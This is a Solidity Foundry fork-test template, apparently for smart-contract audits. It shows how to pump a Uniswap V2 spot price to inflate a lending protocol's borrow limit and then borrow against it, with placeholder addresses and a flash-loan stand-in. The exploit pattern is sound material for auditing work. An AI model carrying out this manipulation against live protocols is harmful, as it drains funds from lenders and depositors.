// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Test, console2} from "forge-std/Test.sol";

// Replace these interfaces with the target protocol's and the pool being manipulated.
interface IERC20 {
    function balanceOf(address) external view returns (uint256);
    function approve(address, uint256) external returns (bool);
    function transfer(address, uint256) external returns (bool);
}

interface IUniswapV2Pair {
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256, uint256, address, bytes calldata) external;
    function token0() external view returns (address);
}

interface ITargetLending {
    function deposit(address asset, uint256 amount) external;
    function borrow(address asset, uint256 amount) external;
    function maxBorrow(address user, address asset) external view returns (uint256);
}

/// Fork test template: manipulate a spot price, act on it, and measure profit.
/// Run: forge test --match-contract OracleManipulation -vvv
contract OracleManipulationTest is Test {
    // Fill in from the review. Addresses are chain state at the fork block.
    address constant PAIR = address(0);      // pool whose reserves the target reads
    address constant TARGET = address(0);    // protocol contract under review
    address constant COLLATERAL = address(0);
    address constant DEBT = address(0);
    uint256 constant FORK_BLOCK = 0;          // pin for reproducibility

    address attacker = makeAddr("attacker");

    function setUp() public {
        // The RPC endpoint comes from the environment; do not hard-code provider keys.
        string memory rpc = vm.envString("ETH_RPC_URL");
        if (FORK_BLOCK == 0) vm.createSelectFork(rpc);
        else vm.createSelectFork(rpc, FORK_BLOCK);
        vm.label(PAIR, "pair");
        vm.label(TARGET, "target");
    }

    function test_spotPriceInflatesBorrowLimit() public {
        vm.skip(PAIR == address(0)); // template guard: remove once addresses are filled in
        uint256 seed = 100_000e18;
        deal(COLLATERAL, attacker, seed * 20); // stands in for a flash loan; add the fee below

        vm.startPrank(attacker);
        IERC20(COLLATERAL).approve(TARGET, type(uint256).max);
        ITargetLending(TARGET).deposit(COLLATERAL, seed);
        uint256 before = ITargetLending(TARGET).maxBorrow(attacker, DEBT);

        // 1. Push the collateral price up by swapping a large amount into the pair.
        _swapInto(COLLATERAL, seed * 10);
        uint256 afterManip = ITargetLending(TARGET).maxBorrow(attacker, DEBT);
        console2.log("maxBorrow before", before);
        console2.log("maxBorrow after ", afterManip);

        // 2. Borrow against the inflated price.
        ITargetLending(TARGET).borrow(DEBT, afterManip);

        // 3. Swap back and account for costs (slippage, pool fee, flash-loan fee).
        // _swapBack(...);
        vm.stopPrank();

        assertGt(afterManip, before * 2, "spot manipulation should materially raise the borrow limit");
    }

    function _swapInto(address tokenIn, uint256 amountIn) internal {
        IUniswapV2Pair pair = IUniswapV2Pair(PAIR);
        (uint112 r0, uint112 r1,) = pair.getReserves();
        bool zeroForOne = pair.token0() == tokenIn;
        (uint256 rin, uint256 rout) = zeroForOne ? (uint256(r0), uint256(r1)) : (uint256(r1), uint256(r0));
        uint256 amountInWithFee = amountIn * 997;
        uint256 out = (amountInWithFee * rout) / (rin * 1000 + amountInWithFee);
        IERC20(tokenIn).transfer(PAIR, amountIn);
        pair.swap(zeroForOne ? 0 : out, zeroForOne ? out : 0, attacker, "");
    }
}
